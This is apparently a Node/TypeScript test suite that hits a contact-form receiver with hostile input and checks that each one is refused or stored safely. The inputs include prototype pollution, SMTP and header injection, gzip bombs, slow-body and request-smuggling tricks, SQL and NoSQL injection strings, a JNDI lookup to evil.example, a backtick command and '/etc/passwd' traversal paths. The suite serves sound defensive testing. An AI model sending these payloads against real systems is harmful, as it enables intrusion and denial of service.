import assert from 'node:assert/strict';
import { after, before, beforeEach, describe, test } from 'node:test';
import { setTimeout as delay } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import limits from '../../contract/limits.json' with { type: 'json' };
import problems from '../../contract/problems.json' with { type: 'json' };
import { type Answer, send, sendRaw } from './support/http-client.ts';
import { goodBody, goodHeaders, origin, path, type RunningReceiver, runReceiver } from './support/receiver.ts';

type ProblemName = keyof typeof problems;

interface ProblemBody {
  type: string;
  errors?: { pointer: string; code: string }[];
}

function assertProblem({ status, headers, text }: Answer, expected: number, name: ProblemName): ProblemBody {
  assert.equal(status, expected, text);
  assert.equal(headers['content-type'], 'application/problem+json');
  const body = JSON.parse(text) as ProblemBody;
  assert.equal(body.type, problems[name].type);
  return body;
}

describe('hostile input', () => {
  let receiver: RunningReceiver;
  let storedBefore = 0;
  const countStored = async () => (await receiver.stored()).length;

  before(async () => void (receiver = await runReceiver({ requestTimeout: 1 })));
  after(() => receiver.stop());
  beforeEach(async () => void (storedBefore = await countStored()));

  /** Sends a body that has to be refused, and of which nothing may be kept. */
  async function refused(body: unknown, status: number, name: ProblemName): Promise<ProblemBody> {
    const problem = assertProblem(await receiver.post(body), status, name);
    assert.equal(await countStored(), storedBefore);
    return problem;
  }

  async function lastStored(more: Record<string, unknown>) {
    const { status, text } = await receiver.post({ ...goodBody, ...more });
    assert.equal(status, 202, text);
    return (await receiver.stored()).at(-1)!;
  }

  describe('H01 H02 H03 names of prototypes', () => {
    for (const member of [
      '"__proto__":{"x":1}',
      '"constructor":{"prototype":{"y":1}}',
      '"toString":"x"',
      '"hasOwnProperty":1',
    ]) {
      test(`${member} is an unknown member, and pollutes nothing`, async () => {
        const body = JSON.stringify(goodBody).replace('{', `{${member},`);
        assert.deepEqual((await refused(body, 422, 'invalid-fields')).errors, []);
        assert.equal(({} as { x?: unknown }).x, undefined);
        assert.equal(({} as { y?: unknown }).y, undefined);
      });
    }
  });

  describe('H21 texts of the world', () => {
    const texts = {
      'emoji with joiners': '👩‍👩‍👧‍👦 🏳️‍🌈',
      Arabic: 'السلام عليكم',
      Chinese: '你好，世界',
      'Dutch ĳ': 'ĳs en ijs',
      'right to left marks': 'a\u202eb\u200f',
      'half a megapixel': '𝒳𠜎',
      'half a character': 'a\ud83d',
    };
    for (const [name, text] of Object.entries(texts)) {
      test(`${name} comes back byte for byte`, async () =>
        assert.equal((await lastStored({ message: text, name: text })).message, text));
    }

    test('é composed and decomposed become the same', async () => {
      assert.equal((await lastStored({ message: 'caf\u0065\u0301' })).message, 'caf\u00e9');
    });

    test('line ends become LF', async () =>
      assert.equal((await lastStored({ message: 'a\r\nb\rc\nd' })).message, 'a\nb\nc\nd'));
  });

  describe('H22 email addresses', () => {
    for (const email of ['a@b', '"x y"@z.nl', 'a+b@ç.nl', "o'brien@example.ie", 'ünï@example.nl', 'A.B@EXAMPLE.NL']) {
      test(`${email} is accepted`, async () => assert.equal((await lastStored({ email })).email, email));
    }

    test('a space before or after is taken off', async () =>
      assert.equal((await lastStored({ email: ' a@b.nl  ' })).email, 'a@b.nl'));

    for (const email of [
      'a@b.nl, c@d.nl',
      'a@b.nl;c@d.nl',
      'a@b.nl c@d.nl',
      '<a@b.nl>',
      'Sam <a@b.nl>',
      'a@',
      '@b',
      'a',
      'a@b@c',
      'a@b.nl\u2028c',
      'a@\u0000b',
      'mailto:a@b.nl',
    ]) {
      test(`${JSON.stringify(email)} is not one address`, async () => {
        assert.deepEqual(
          (await refused({ ...goodBody, email }, 422, 'invalid-fields')).errors?.map(({ pointer, code }) => ({
            pointer,
            code,
          })),
          [{ pointer: '/email', code: 'email' }],
        );
      });
    }

    test(`of 320 characters is too long, of ${limits.email} not`, async () => {
      const ofLength = (length: number) => `${`a@${'b.'.repeat(length)}`.slice(0, length - 2)}nl`;
      assert.equal(
        (await refused({ ...goodBody, email: ofLength(320) }, 422, 'invalid-fields')).errors![0]!.code,
        'too-long',
      );
      await refused({ ...goodBody, email: ofLength(limits.email + 1) }, 422, 'invalid-fields');
      await lastStored({ email: ofLength(limits.email) });
    });
  });

  test('H24 an address with a line break and an SMTP command is refused', async () => {
    for (const lineBreak of ['\r\n', '\n', '\r']) {
      await refused({ ...goodBody, email: `a@b.nl${lineBreak}RCPT TO:<x@y>` }, 422, 'invalid-fields');
    }
  });

  describe('H29 lengths, in code points after normalisation', () => {
    for (const field of ['message', 'name', 'subjectKey'] as const) {
      const max = limits[field];
      for (const [what, character] of [
        ['letters', 'a'],
        ['emoji', '😀'],
        ['decomposed letters', 'e\u0301'],
      ] as const) {
        test(`${max} ${what} fit in ${field}, ${max + 1} do not`, async () => {
          await lastStored({ [field]: character.repeat(max) });
          storedBefore += 1;
          const { errors } = await refused({ ...goodBody, [field]: character.repeat(max + 1) }, 422, 'invalid-fields');
          assert.equal(errors![0]!.pointer, `/${field}`);
          assert.equal(errors![0]!.code, 'too-long');
        });
      }
    }

    for (const message of ['', ' ', ' \n\t\u00a0\u2003 ']) {
      test(`a message of ${JSON.stringify(message)} is required`, async () => {
        assert.equal((await refused({ ...goodBody, message }, 422, 'invalid-fields')).errors![0]!.code, 'required');
      });
    }

    test('one character is a message', async () => assert.equal((await lastStored({ message: 'x' })).message, 'x'));

    test('a body of 32 kB is read, one byte more and a megabyte is too large', async () => {
      const bodyOf = (bytes: number) => {
        const empty = JSON.stringify(goodBody);
        return `${empty.slice(0, -1)}${' '.repeat(bytes - empty.length)}}`;
      };
      assert.equal((await receiver.post(bodyOf(limits.body))).status, 202);
      storedBefore += 1;
      await refused(bodyOf(limits.body + 1), 413, 'too-large');
      await refused(bodyOf(1_048_576), 413, 'too-large');
      const headers = goodHeaders({ 'Transfer-Encoding': 'chunked' });
      assertProblem(await receiver.post(bodyOf(limits.body + 1), { headers }), 413, 'too-large');
    });
  });

  describe('H30 bodies that are no object', () => {
    const good = JSON.stringify(goodBody);
    const bodies: Record<string, string> = {
      empty: '',
      null: 'null',
      'an array': '[]',
      'a text': '"x"',
      'a number': '1',
      'bytes after the end': `${good} x`,
      'two objects': good + good,
      'a depth of 10 000': `${'['.repeat(10_000)}${']'.repeat(10_000)}`,
      'a depth of 10 000, not closed': '{"a":'.repeat(6000),
      'a number with a leading zero': good.replace('20000', '020000'),
      'a comment': `${good}// x`,
      NaN: good.replace('20000', 'NaN'),
    };
    for (const [name, body] of Object.entries(bodies)) {
      test(`${name} is 400`, async () => {
        await refused(body, 400, 'bad-request');
      });
    }

    test('a depth of 5000 in an object is JSON, and then an unknown member', async () => {
      await refused(good.replace('}', `,"more":${'['.repeat(5000)}${']'.repeat(5000)}}`), 422, 'invalid-fields');
    });

    test('a number out of range is 422', async () => {
      await refused(good.replace('20000', '1e400'), 422, 'invalid-fields');
    });
  });

  describe('H31 members that are missing, unknown or of another type', () => {
    for (const field of ['email', 'message', 'language', 'elapsedMs', 'extra']) {
      for (const value of [undefined, null, ['a'], {}, true]) {
        test(`${field} = ${JSON.stringify(value)} is 422 with a pointer`, async () => {
          const { errors } = await refused({ ...goodBody, [field]: value }, 422, 'invalid-fields');
          assert.deepEqual(
            errors!.map(({ pointer, code }) => ({ pointer, code })),
            [{ pointer: `/${field}`, code: 'required' }],
          );
        });
      }
    }

    for (const elapsedMs of [-1, 1.5, '20000', 1e300]) {
      test(`elapsedMs = ${JSON.stringify(elapsedMs)} is 422`, async () => {
        await refused({ ...goodBody, elapsedMs }, 422, 'invalid-fields');
      });
    }

    for (const field of ['name', 'subjectKey']) {
      test(`${field} = null is 422`, async () => {
        await refused({ ...goodBody, [field]: null }, 422, 'invalid-fields');
      });
    }

    test('an unknown member is 422, and its name is not repeated', async () => {
      const { text } = await receiver.post({ ...goodBody, '<script>': 1 });
      assert.doesNotMatch(text, /script/);
      await refused({ ...goodBody, phone: '06' }, 422, 'invalid-fields');
    });
  });

  describe('H32 bytes that are no text, and bodies that do not end', () => {
    const good = JSON.stringify(goodBody);
    const bytes: Record<string, Uint8Array> = {
      'a byte that is not UTF-8': Buffer.concat([
        Buffer.from(good.slice(0, -2)),
        Buffer.from([0xff]),
        Buffer.from('"}'),
      ]),
      'a character cut off': Buffer.concat([
        Buffer.from('{"email":"'),
        Buffer.from('é').subarray(0, 1),
        Buffer.from('"}'),
      ]),
      'an overlong slash': Buffer.concat([Buffer.from('{"email":"'), Buffer.from([0xc0, 0xaf]), Buffer.from('"}')]),
      'a surrogate in UTF-8': Buffer.concat([
        Buffer.from('{"email":"'),
        Buffer.from([0xed, 0xa0, 0x80]),
        Buffer.from('"}'),
      ]),
      'UTF-16 with a byte order mark': Buffer.from(`\ufeff${good}`, 'utf16le'),
    };
    for (const [name, body] of Object.entries(bytes))
      test(`${name} is 400`, async () => {
        await refused(body, 400, 'bad-request');
      });

    test('a gzip bomb is not unpacked', async () => {
      const body = gzipSync(Buffer.alloc(10_000_000, ' '));
      for (const encoding of ['gzip', 'deflate', 'br', 'identity, gzip']) {
        assertProblem(
          await receiver.post(body, { headers: goodHeaders({ 'Content-Encoding': encoding }) }),
          415,
          'media-type',
        );
      }
      await refused(body, 400, 'bad-request');
    });

    const head = (...lines: string[]) =>
      [
        `POST ${path} HTTP/1.1`,
        'Host: x',
        `Origin: ${origin}`,
        'Content-Type: application/json',
        `Idempotency-Key: "${crypto.randomUUID()}"`,
        ...lines,
        '',
        '',
      ].join('\r\n');

    test('chunks without end are cut off at 32 kB', async () => {
      const endless = async function* () {
        yield head('Transfer-Encoding: chunked');
        for (let i = 0; i < 200; i++) {
          yield `400\r\n${'x'.repeat(1024)}\r\n`;
          await delay(1);
        }
      };
      assert.match(await sendRaw(receiver.url, endless()), /^HTTP\/1\.1 413 /);
    });

    test('a body at a byte now and then is over after the time of a request', async () => {
      // White space belongs to it: it would take 30 seconds.
      const long = good.padEnd(3000);
      const slow = async function* () {
        yield head(`Content-Length: ${long.length}`);
        for (const character of long) {
          yield character;
          await delay(10);
        }
      };
      const start = performance.now();
      assert.match(await sendRaw(receiver.url, slow()), /^HTTP\/1\.1 408 [^]*Content-Security-Policy/i);
      assert.ok(performance.now() - start < 3000);
      assert.equal(await countStored(), storedBefore);
    });

    test('headers at a byte now and then are over after the time of a request', async () => {
      const slow = async function* () {
        for (const character of head(`X-Long: ${'x'.repeat(3000)}`)) {
          yield character;
          await delay(10);
        }
      };
      assert.match(await sendRaw(receiver.url, slow()), /^HTTP\/1\.1 408 /);
    });

    test('a Content-Length that is too long waits for nothing', async () => {
      assert.match(await sendRaw(receiver.url, [head('Content-Length: 30000') + good]), /^HTTP\/1\.1 408 /);
      assert.equal(await countStored(), storedBefore);
    });

    test('a Content-Length that is too short leaves half a body, and no second request', async () => {
      const answer = await sendRaw(receiver.url, [head('Content-Length: 10') + good]);
      assert.match(answer, /^HTTP\/1\.1 400 /);
      assert.equal(await countStored(), storedBefore);
    });

    for (const [name, lines] of Object.entries({
      'a negative Content-Length': ['Content-Length: -1'],
      'a Content-Length that is no number': ['Content-Length: 1x'],
      'two lengths': ['Content-Length: 10', 'Content-Length: 20'],
      'a length and chunks': ['Content-Length: 10', 'Transfer-Encoding: chunked'],
    })) {
      test(`${name} is 400`, async () => {
        assert.match(await sendRaw(receiver.url, [head(...lines) + good]), /^HTTP\/1\.1 400 /);
        assert.equal(await countStored(), storedBefore);
      });
    }
  });

  describe('H33 other types with JSON inside', () => {
    const types = [
      'text/plain',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=x',
      'application/json5',
      'text/json',
      'application/json, text/plain',
      'application/json; charset=utf-16',
      '',
    ];
    for (const type of types) {
      test(`${type || 'no type'} is 415`, async () => {
        const headers = goodHeaders();
        delete headers['Content-Type'];
        assertProblem(
          await receiver.post(goodBody, { headers: type ? { ...headers, 'Content-Type': type } : headers }),
          415,
          'media-type',
        );
        assert.equal(await countStored(), storedBefore);
      });
    }

    for (const type of ['application/json; charset=utf-8', 'Application/JSON;charset="UTF-8"']) {
      test(`${type} is JSON`, async () =>
        assert.equal((await receiver.post(goodBody, { headers: goodHeaders({ 'Content-Type': type }) })).status, 202));
    }
  });

  describe('H34 idempotency keys', () => {
    const id = crypto.randomUUID();
    const keys: Record<string, string | string[] | undefined> = {
      missing: undefined,
      empty: '',
      'an empty text': '""',
      unquoted: id,
      'of 10 kB': `"${'a'.repeat(10_000)}"`,
      'with a quote of SQL': `"' OR 1=1 --"`,
      'not of version 4': '"00000000-0000-1000-8000-000000000000"',
      'with a parameter': `"${id}";a=1`,
      'twice in one header': `"${id}", "${id}"`,
      'in two headers': [`"${id}"`, `"${crypto.randomUUID()}"`],
    };
    for (const [name, key] of Object.entries(keys)) {
      test(`${name} is 400`, async () => {
        const headers = goodHeaders();
        delete headers['Idempotency-Key'];
        assertProblem(
          await receiver.post(goodBody, {
            headers: key === undefined ? headers : { ...headers, 'Idempotency-Key': key },
          }),
          400,
          'bad-request',
        );
        assert.equal(await countStored(), storedBefore);
      });
    }

    test('with a line break is no request', async () => {
      const lines = [
        `POST ${path} HTTP/1.1`,
        'Host: x',
        `Origin: ${origin}`,
        'Content-Type: application/json',
        'Idempotency-Key: "a\nb"',
        'Content-Length: 0',
        '',
        '',
      ];
      assert.match(await sendRaw(receiver.url, [lines.join('\r\n')]), /^HTTP\/1\.1 400 /);
    });

    test('of another visitor gives nothing of theirs', async () => {
      const key = { 'Idempotency-Key': `"${id}"` };
      const first = await receiver.post({ ...goodBody, email: 'victim@example.nl' }, { headers: goodHeaders(key) });
      const { id: stored } = JSON.parse(first.text) as { id: string };
      const { text } = await receiver.post(goodBody, { headers: goodHeaders(key) });
      assert.doesNotMatch(text, new RegExp(`victim|${stored}`));
    });
  });

  describe('H35 repetition', () => {
    test('the same key and body give the same status and body, and one record', async () => {
      const headers = goodHeaders();
      const first = await receiver.post(goodBody, { headers });
      const second = await receiver.post(goodBody, { headers });
      assert.deepEqual([second.status, second.text], [first.status, first.text]);
      assert.equal(await countStored(), storedBefore + 1);
    });

    test('the same key with another body is refused', async () => {
      const headers = goodHeaders();
      await receiver.post(goodBody, { headers });
      assertProblem(await receiver.post({ ...goodBody, message: 'another' }, { headers }), 422, 'key-reused');
      assert.equal(await countStored(), storedBefore + 1);
    });

    test('the same body with another key is a new record', async () => {
      await receiver.post();
      await receiver.post();
      assert.equal(await countStored(), storedBefore + 2);
    });

    test('50 at once are one record', async () => {
      const headers = goodHeaders();
      const answers = await Promise.all(Array.from({ length: 50 }, () => receiver.post(goodBody, { headers })));
      assert.ok(answers.every(({ status }) => status === 202 || status === 409));
      assert.equal(new Set(answers.filter(({ status }) => status === 202).map(({ text }) => text)).size, 1);
      assert.equal(await countStored(), storedBefore + 1);
    });

    test('a key whose body was refused can be used again', async () => {
      const headers = goodHeaders();
      await receiver.post({ ...goodBody, email: '' }, { headers });
      assert.equal((await receiver.post(goodBody, { headers })).status, 202);
    });
  });

  describe('H36 origins', () => {
    const others = [
      'https://evil.example',
      `${origin}.evil.example`,
      'https://evilpartner.example',
      'http://partner.example',
      `${origin}:8443`,
      `${origin}/`,
      origin.toUpperCase(),
      'null',
      '',
    ];
    for (const other of [...others, undefined, [origin, 'https://evil.example']]) {
      test(`${JSON.stringify(other) ?? 'none'} is 403 and cannot read it`, async () => {
        const headers = goodHeaders();
        delete headers.Origin;
        if (other !== undefined) headers.Origin = other;
        const answers = [
          await receiver.post(goodBody, { headers }),
          await send(receiver.endpoint, { method: 'OPTIONS', headers }),
        ];
        for (const answer of answers) {
          assertProblem(answer, 403, 'forbidden-origin');
          assert.equal(answer.headers['access-control-allow-origin'], undefined);
          assert.equal(answer.headers.vary, 'Origin');
        }
        assert.equal(await countStored(), storedBefore);
      });
    }

    test('null is allowed where sandboxed frames are', async () => {
      const open = await runReceiver({ allowOpaqueOrigins: true });
      const { status, headers } = await open.post(goodBody, { headers: goodHeaders({ Origin: 'null' }) });
      assert.deepEqual([status, headers['access-control-allow-origin']], [202, 'null']);
      assert.equal(
        (await open.post(goodBody, { headers: goodHeaders({ Origin: 'https://evil.example' }) })).status,
        403,
      );
      await open.stop();
    });
  });

  describe('H37 methods', () => {
    for (const method of ['GET', 'HEAD', 'PUT', 'PATCH', 'DELETE', 'TRACE', 'PROPFIND']) {
      test(`${method} is 405 with what is allowed`, async () => {
        const { status, headers } = await send(receiver.endpoint, { method, headers: { Origin: origin } });
        assert.equal(status, 405);
        assert.equal(headers.allow, 'POST, OPTIONS');
        assert.equal(headers['x-content-type-options'], 'nosniff');
      });
    }

    test('a preflight for another method or header still allows only what there is', async () => {
      const asked = {
        Origin: origin,
        'Access-Control-Request-Method': 'DELETE',
        'Access-Control-Request-Headers': 'x-evil, authorization',
      };
      const { status, headers } = await send(receiver.endpoint, { method: 'OPTIONS', headers: asked });
      assert.equal(status, 204);
      assert.equal(headers['access-control-allow-methods'], 'POST');
      assert.doesNotMatch(headers['access-control-allow-headers']!, /evil|authorization/);
    });

    test('CONNECT and nonsense are no request', async () => {
      for (const line of [
        'CONNECT evil.example:443 HTTP/1.1',
        'NONSENSE / HTTP/1.1',
        'GET / HTTP/9.9',
        '\x16\x03\x01\x02',
      ]) {
        assert.doesNotMatch(await sendRaw(receiver.url, [`${line}\r\nHost: x\r\n\r\n`]), /^HTTP\/1\.1 (2|5)/);
      }
    });
  });

  describe('H39 texts that mean something to other programs', () => {
    const texts = [
      "'; DROP TABLE messages; --",
      '{"$gt": ""}',
      '\u001b[31mred\u001b[0m',
      'a\nb {"level":"alarm"}',
      '${jndi:ldap://evil.example/a}',
      '\u0000nul',
      '%n%s',
      '`id`',
    ];
    for (const text of texts) {
      test(`${JSON.stringify(text)} is stored as it is, and not logged`, async () => {
        receiver.log.length = 0;
        const stored = await lastStored({ message: text, name: text, subjectKey: text, language: text.slice(0, 35) });
        assert.equal(stored.message, text);
        assert.equal(stored.name, text);
        assert.equal(stored.subjectKey, text);
        assert.equal(receiver.log.length, 1);
        assert.doesNotMatch(receiver.log[0]!, /DROP|\$gt|red|level.*level|jndi|nul[^l]|%n|`/);
      });
    }
  });

  describe('H40 paths', () => {
    const forms = [
      '..%2f',
      '..%2f..%2fetc%2fpasswd',
      '%00',
      'contact%00',
      'CONTACT',
      'unknown',
      'a'.repeat(41),
      'a'.repeat(8000),
      '%',
      '%ff',
      'contact%20',
      '__proto__',
      'toString',
      '%2e%2e',
      '*',
    ];
    for (const form of forms) {
      test(`${form.slice(0, 50)} is no form`, async () => {
        const answer = await send(`${receiver.url}/v1/forms/${form}/messages`, {
          method: 'POST',
          headers: goodHeaders(),
          body: JSON.stringify(goodBody),
        });
        assertProblem(answer, 404, 'unknown-form');
      });
    }

    for (const other of [
      '/',
      '//',
      '/v1',
      '/v2/forms/contact/messages',
      `${path}/`,
      `${path}/1`,
      `/x/..${path}x`,
      '/.env',
      '/healthz/',
    ]) {
      test(`${other} is 404`, async () => {
        assertProblem(
          await send(`${receiver.url}${other}`, { method: 'POST', headers: goodHeaders(), body: '{}' }),
          404,
          'unknown-form',
        );
      });
    }

    test('a path of 100 kB is no request', async () => {
      assert.match(
        await sendRaw(receiver.url, [`GET /${'a'.repeat(100_000)} HTTP/1.1\r\nHost: x\r\n\r\n`]),
        /^HTTP\/1\.1 4(00|14|31) /,
      );
    });
  });

  test('H42 a filled honeypot is a success to its sender', async () => {
    const { status, text } = await receiver.post({ ...goodBody, extra: 'filled by the browser' });
    assert.equal(status, 202);
    assert.match(text, /^\{"id":"[\da-f-]{36}","status":"accepted"\}$/);
    assert.equal(await countStored(), storedBefore + 1);
  });

  test('nothing of all this was an error of the receiver', () => {
    assert.deepEqual(
      receiver.log.filter((line) => /"alarm"|"status":5/.test(line)),
      [],
    );
  });
});
